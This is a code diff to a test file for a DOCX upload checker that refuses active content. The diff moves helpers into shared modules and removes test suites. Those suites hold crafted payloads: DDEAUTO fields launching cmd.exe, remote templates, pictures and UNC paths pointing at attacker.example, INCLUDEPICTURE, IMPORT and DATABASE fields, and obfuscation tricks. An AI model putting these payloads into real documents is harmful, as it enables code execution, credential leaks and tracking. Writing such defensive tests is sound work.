@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { docx, documentRels, MB, reasonFor, withBody } from "../../tests/support/active-content";
 import {
   contentTypesXml,
   docxFiles,
@@ -6,48 +7,19 @@ import {
   relsXml,
   utf16,
   WORDML_NAMESPACE,
-  zipOf,
-  type Relationship,
   type ZipFiles,
 } from "../../tests/support/docx-fixtures";
-import { checkDocx } from "./docx-check.server";
-
-/** Crafted documents for each kind of active content; each passes every other check. */
-
-const MB = 1024 * 1024;
-const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
-const DRAWING = `xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"`;
-const VML = `xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${R}"`;
-
-async function reasonFor(files: ZipFiles) {
-  const result = await checkDocx(zipOf(files));
-  return result.ok ? "ok" : result.reason;
-}
-
-/** The minimal document plus `parts` (replacing any of the same name). */
-const docx = (parts: ZipFiles): ZipFiles => ({ ...docxFiles(), ...parts });
-const withBody = (body: string, parts: ZipFiles = {}, namespaces = "") =>
-  docx({ "word/document.xml": documentXml(body, namespaces), ...parts });
-const documentRels = (...relationships: Relationship[]) => ({
-  "word/_rels/document.xml.rels": relsXml(relationships),
-});
-
-const run = (inner: string) => `<w:r>${inner}</w:r>`;
-const fldChar = (type: "begin" | "separate" | "end") => run(`<w:fldChar w:fldCharType="${type}"/>`);
-const instrText = (code: string) => run(`<w:instrText xml:space="preserve">${code}</w:instrText>`);
-/** A complex field whose code is split over one instrText run per piece. */
-const field = (...code: string[]) =>
-  fldChar("begin") +
-  code.map(instrText).join("") +
-  fldChar("separate") +
-  run("<w:t>1</w:t>") +
-  fldChar("end");
-const paragraph = (inner: string) => `<w:p>${inner}</w:p>`;
-
-const picture = (attribute: string) =>
-  run(
-    `<w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="photo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`,
-  );
+import {
+  DRAWING,
+  fldChar,
+  field,
+  instrText,
+  paragraph,
+  picture,
+  R,
+  run,
+  VML,
+} from "../../tests/support/wordml";
 
 describe("checkDocx and active content", () => {
   it("accepts a resume with web and mail hyperlinks, a picture, a header and ordinary fields", async () => {
@@ -94,146 +66,6 @@ describe("checkDocx and active content", () => {
       `${DRAWING}`,
     );
     expect(await reasonFor(files)).toBe("ok");
-  });
-
-  describe("relationships", () => {
-    it("refuses an attached template fetched from elsewhere (settings.xml.rels)", async () => {
-      const files = docx({
-        "word/settings.xml": `<w:settings xmlns:w="${WORDML_NAMESPACE}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
-        "word/_rels/settings.xml.rels": relsXml([
-          {
-            id: "rId1",
-            type: "attachedTemplate",
-            target: "https://attacker.example/template.dotm",
-            external: true,
-          },
-        ]),
-      });
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    it("refuses a remote picture", async () => {
-      const files = withBody(
-        paragraph(picture('r:link="rId9"')),
-        documentRels({
-          id: "rId9",
-          type: "image",
-          target: "http://attacker.example/track.png",
-          external: true,
-        }),
-        DRAWING,
-      );
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    it("refuses a UNC path target", async () => {
-      const files = docx(
-        documentRels({
-          id: "rId9",
-          type: "frame",
-          target: "\\\\attacker.example\\share\\frame.htm",
-          external: true,
-        }),
-      );
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    it.each([
-      "\\\\attacker.example\\share\\logo.png",
-      "//attacker.example/share/logo.png",
-      "file://attacker.example/share/logo.png",
-      "https://attacker.example/logo.png",
-      "%5C%5Cattacker.example%5Cshare%5Clogo.png",
-    ])("refuses the target %j even without TargetMode", async (target) => {
-      const files = docx(documentRels({ id: "rId9", type: "image", target }));
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    // Word resolves a relative external target against the document's own folder or share.
-    it("refuses an external target that looks like a relative path", async () => {
-      const files = docx({
-        "word/_rels/settings.xml.rels": relsXml([
-          { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
-        ]),
-      });
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    it("refuses an external target written with a character reference", async () => {
-      const rels = relsXml([
-        { id: "rId9", type: "image", target: "media/logo.png", external: true },
-      ]).replace('TargetMode="External"', 'TargetMode="&#x45;xternal"');
-      expect(rels).not.toContain("External");
-      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
-        "active_content",
-      );
-    });
-
-    it("refuses an external target under another prefix, in single quotes", async () => {
-      const rels = `<?xml version='1.0' encoding='UTF-8'?>
-<pkg:Relationships xmlns:pkg='http://schemas.openxmlformats.org/package/2006/relationships'>
-  <pkg:Relationship Id='rId9' Type='${R}/image' Target='media/logo.png' TargetMode='External'/>
-</pkg:Relationships>`;
-      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
-        "active_content",
-      );
-    });
-
-    it.each(["le", "be"] as const)("refuses an external target in UTF-16%s rels", async (end) => {
-      const rels = relsXml([
-        { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
-      ]);
-      const bytes = utf16(rels, end);
-      expect(Buffer.from(bytes).includes("External")).toBe(false);
-      expect(await reasonFor(docx({ "word/_rels/settings.xml.rels": bytes }))).toBe(
-        "active_content",
-      );
-    });
-
-    it.each([
-      ["an OLE object", `${R}/oleObject`],
-      ["an embedded package", `${R}/package`],
-      ["an ActiveX control", `${R}/control`],
-      [
-        "an ActiveX binary",
-        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
-      ],
-      ["an alternative-format chunk", `${R}/aFChunk`],
-      ["a strict OLE object", "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"],
-      ["an OLE object, type with a trailing slash", `${R}/oleObject/`],
-    ])("refuses a relationship to %s wherever its part is", async (_, type) => {
-      const files = docx({
-        ...documentRels({ id: "rId9", type, target: "objects/thing.bin" }),
-        "word/objects/thing.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
-      });
-      expect(await reasonFor(files)).toBe("active_content");
-    });
-
-    it("refuses a relationship to a VBA project under another name", async () => {
-      const files = docx({
-        ...documentRels({
-          id: "rId9",
-          type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
-          target: "macros.bin",
-        }),
-        "word/macros.bin": new Uint8Array([1, 2, 3]),
-      });
-      expect(await reasonFor(files)).toBe("macro_content");
-    });
-
-    it("refuses an external hyperlink used as a picture", async () => {
-      const files = withBody(
-        paragraph(picture('r:link="rId9"')),
-        documentRels({
-          id: "rId9",
-          type: "hyperlink",
-          target: "https://attacker.example/track.png",
-          external: true,
-        }),
-        DRAWING,
-      );
-      expect(await reasonFor(files)).toBe("active_content");
-    });
   });
 
   describe("parts", () => {
@@ -302,82 +134,6 @@ describe("checkDocx and active content", () => {
     ])("refuses %s", async (_, object) => {
       const files = withBody(paragraph(run(object)), {}, VML);
       expect(await reasonFor(files)).toBe("active_content");
-    });
-  });
-
-  describe("fields", () => {
-    const refused = async (body: string) =>
-      expect(await reasonFor(withBody(paragraph(body)))).toBe("active_content");
-
-    it("refuses DDEAUTO split over several instrText runs", async () => {
-      await refused(field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'));
-    });
-
-    it("refuses DDE in a simple field", async () => {
-      await refused(
-        `<w:fldSimple w:instr='DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'>${run("<w:t>x</w:t>")}</w:fldSimple>`,
-      );
-    });
-
-    it("refuses DDE written with character references", async () => {
-      await refused(field("&#x44;&#68;EAUTO c:\\\\x.exe"));
-      await refused(`<w:fldSimple w:instr="&#x44;DE x y"/>`);
-    });
-
-    it("refuses DDEAUTO in a CDATA section", async () => {
-      await refused(
-        fldChar("begin") +
-          run("<w:instrText><![CDATA[ DDEAUTO c:\\\\x.exe ]]></w:instrText>") +
-          fldChar("end"),
-      );
-    });
-
-    it.each([
-      ' INCLUDEPICTURE "http://attacker.example/p.png" \\* MERGEFORMATINET ',
-      ' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\x.docx" ',
-      " INCLUDETEXT notes.docx ",
-      ' LINK Excel.Sheet.12 "c:\\\\book.xlsx" "Sheet1!R1C1" \\a ',
-      ' IMPORT "http://attacker.example/p.wmf" ',
-      ' DATABASE \\c "Provider=SQLOLEDB;Data Source=attacker.example" \\s "SELECT 1" ',
-      "ddeauto c:\\\\x.exe",
-      '"DDEAUTO" c:\\\\x.exe',
-      "\u200bDDEAUTO c:\\\\x.exe",
-    ])("refuses the field %j", async (code) => {
-      await refused(field(code));
-    });
-
-    it("refuses a field whose type is computed by a nested field", async () => {
-      await refused(
-        fldChar("begin") +
-          field(" QUOTE 68 68 69 65 85 84 79 ") +
-          instrText(" c:\\\\x.exe ") +
-          fldChar("separate") +
-          fldChar("end"),
-      );
-    });
-
-    it("refuses a field code in a tracked deletion", async () => {
-      await refused(
-        fldChar("begin") +
-          run("<w:delInstrText> DDEAUTO c:\\\\x.exe</w:delInstrText>") +
-          fldChar("end"),
-      );
-    });
-
-    it("refuses field code written as plain text between begin and separate", async () => {
-      await refused(fldChar("begin") + run("<w:t>DDEAUTO c:\\\\x.exe</w:t>") + fldChar("end"));
-    });
-
-    it("refuses field code text outside fldChar markers", async () => {
-      await refused(instrText(" DDEAUTO c:\\\\x.exe "));
-    });
-
-    it("refuses a field still open at the end of the part", async () => {
-      await refused(fldChar("begin") + instrText(" DDEAUTO c:\\\\x.exe "));
-    });
-
-    it("refuses a field padded past the kept length", async () => {
-      await refused(field(" ".repeat(10_000), '"'.repeat(1_000), "DDEAUTO c:\\\\x.exe"));
     });
   });
 
